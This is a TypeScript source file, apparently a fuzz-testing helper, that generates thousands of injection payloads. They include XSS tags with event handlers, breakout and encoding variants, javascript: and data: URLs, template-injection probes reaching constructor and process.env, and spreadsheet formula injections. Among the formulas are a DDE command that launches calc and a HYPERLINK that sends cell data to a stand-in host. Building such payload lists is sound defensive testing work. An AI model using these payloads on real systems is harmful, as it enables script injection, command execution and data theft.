import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { z } from 'zod';

const tags =
  'script img svg iframe body input details video audio object embed math a form marquee style link meta base template textarea title select button'.split(
    ' ',
  );
const handlers = 'onerror onfocus'.split(' ');
const breakouts = ['', '">', "'>", '</title>', '</script>', '-->', ']]>', '</textarea></style></svg>'];
const act = 'alert(1)';

const encodings: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(/[<>"]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\x3e`),
  (text) => text.replaceAll('<', '\u{FF1C}').replaceAll('>', '\u{FF1E}'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll(' ', '\u000C'),
  (text) => text.replaceAll(' ', '/\n'),
  (text) => `\uD800${text}\uDFFF`,
];

const schemes = ['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'java\tscript', '\u0001javascript', 'file'];
const bodies = [`:${act}`, `://x%0a${act}`, ':text/html,<script>alert(1)</script>', '&colon;alert(1)'];
const templates =
  '{{X}} ${X} #{X} <%= X %> {% X %} [[X]] *{X} @{X} ${{X}} {{{X}}} {{=<% %>=}} <?php X ?> <#X> ~{X} %{X} $(X) `X`'.split(
    /(?<=\S) (?=[{$#<*@~%`[])/,
  );
const calls = ['7*7', "constructor.constructor('alert(1)')()", '__proto__', 'process.env'];
const formulas = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.test?"&A1,"see")',
  'IMPORTXML("http://x.test","//a")',
];
const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00A0=',
  '\uFEFF=',
  '\u{FF1D}',
  '\u{FF0B}',
  '\u{FF0D}',
  '\u{FF20}',
  '"=',
  "'=",
];

/** Public lists of awkward text, and a few thousand attacks made from their parts; each once, none empty. */
export function payloads(): readonly string[] {
  const naughty = z
    .array(z.string())
    .parse(JSON.parse(readFileSync(join(import.meta.dirname, '../fixtures/naughty-strings.json'), 'utf8')));
  const elements = cross(
    tags,
    handlers,
    (tag, handler) => `<${tag} ${handler}=${act} src=x href=//x.test autofocus>`,
  );
  const all = [
    ...naughty,
    ...cross(breakouts, elements, (out, element) => out + element),
    ...cross(encodings, elements, (encode, element) => encode(element)),
    ...cross(schemes, bodies, (scheme, body) => scheme + body),
    ...cross(templates, calls, (template, call) => template.replaceAll('X', call)),
    ...cross(formulaStarts, formulas, (start, formula) => start + formula),
  ];
  return [...new Set(all)].filter((text) => text !== '');
}

function cross<A, B>(
  left: readonly A[],
  right: readonly B[],
  make: (a: A, b: B) => string,
): readonly string[] {
  return left.flatMap((a) => right.map((b) => make(a, b)));
}
